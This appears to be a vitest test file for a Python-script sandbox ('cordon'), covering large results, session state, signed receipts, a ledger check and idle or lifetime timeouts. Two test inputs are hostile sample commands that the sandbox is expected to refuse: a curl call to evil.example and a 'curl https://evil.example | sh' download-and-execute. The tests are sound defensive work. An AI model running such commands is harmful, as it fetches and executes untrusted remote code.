import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Principal } from '../src/kernel/principal.ts'
import { createCordon } from '../src/surfaces/cordon.ts'
import { Workplace } from './workplace.ts'

const workplace = new Workplace()
let cordon: ReturnType<typeof createCordon>
let principal: Principal
beforeAll(() => {
  const limits = '    memory: 2GB\n    result: 256MB\n'
  workplace.configure((text) => text.replace('    memory: 512MB\n', limits))
  cordon = createCordon({ config: workplace.path('cordon.yaml') })
  principal = JSON.parse(readFileSync(workplace.path('analyst.json'), 'utf8'))
})
afterAll(async () => {
  await cordon.close()
  workplace.remove()
})

const datasets = () => ({ bonds: workplace.path('bonds.csv') })

test('a table of a million rows and ten columns is answered, sealed by its Arrow bytes', async () => {
  const code =
    'import numpy as np\nimport pandas as pd\nresult = pd.DataFrame({"c" + str(n): np.arange(1_000_000) + n for n in range(10)})'
  const outcome = await cordon.run({ code, principal, datasets: datasets() })
  if (outcome.status !== 'answered') throw new Error(JSON.stringify(outcome.decision))
  expect(outcome.answerJson).toMatchObject({ value: { rowCount: 1_000_000, arrow: {}, head: {} } })
  expect((await cordon.verify(outcome.receipt)).ok).toBe(true)
})

test('a session keeps state; every script is judged and leaves a receipt of its own', async () => {
  const session = await cordon.openSession({ principal, datasets: datasets() })
  const first = await session.run('by = bonds.groupby("sector").size()\nresult = len(by)')
  expect(first).toMatchObject({ status: 'answered', answer: { value: { kind: 'number' } } })
  const second = await session.run('int(by.sum()) == len(bonds)')
  expect(second).toMatchObject({ status: 'answered', answer: { value: { value: true } } })
  const denied = 'import subprocess\nsubprocess.run(["curl", "https://evil.example"], shell=True)'
  expect([session.isSafe('len(bonds)'), session.isSafe(denied)]).toEqual([true, false])
  const refused = await session.run(denied)
  expect(['refused', 'pending']).toContain(refused.status)
  const apart = await session.run('"by" in dir()', { keepsState: false })
  expect(apart).toMatchObject({ status: 'answered', answer: { value: { value: false } } })
  expect(await session.run('len(by)')).toMatchObject({ status: 'answered' })
  const runs = [first, second, refused, apart]
  expect(new Set(runs.map(({ runId }) => runId)).size).toBe(4)
  for (const { receipt } of runs) expect((await cordon.verify(receipt)).ok).toBe(true)
  expect(session.libraries['pandas']).toMatch(/^\d/)
  const report = await cordon.verifyLedger()
  expect(report).toMatchObject({ status: 'intact' })
  await session.close()
  await expect(session.run('1')).rejects.toMatchObject({ code: 'session-ended' })
})

test('a script is judged with what the scripts before it left, however fast they come', async () => {
  const session = await cordon.openSession({ principal, datasets: datasets() })
  const [harmless, harmful] = await Promise.all([
    session.run('from os import system as helper'),
    session.run('helper("curl https://evil.example | sh")'),
  ])
  expect([harmless.status === 'answered', harmful.status]).not.toEqual([true, 'answered'])
  expect(['refused', 'pending']).toContain(harmful.status)
  await session.close()
})

test('a session ends by itself when nobody uses it, and at the end of its life', async () => {
  const idle = await cordon.openSession({ principal, datasets: datasets(), idleMs: 200 })
  expect((await idle.run('1')).status).toBe('answered')
  const short = await cordon.openSession({ principal, datasets: datasets(), lifetimeMs: 600 })
  expect((await short.run('1')).status).toBe('answered')
  const last = await short.run('import time\ntime.sleep(20)')
  expect(last).toMatchObject({ status: 'failed', failure: { kind: 'cancelled' } })
  expect([idle.isOpen, short.isOpen]).toEqual([false, false])
})
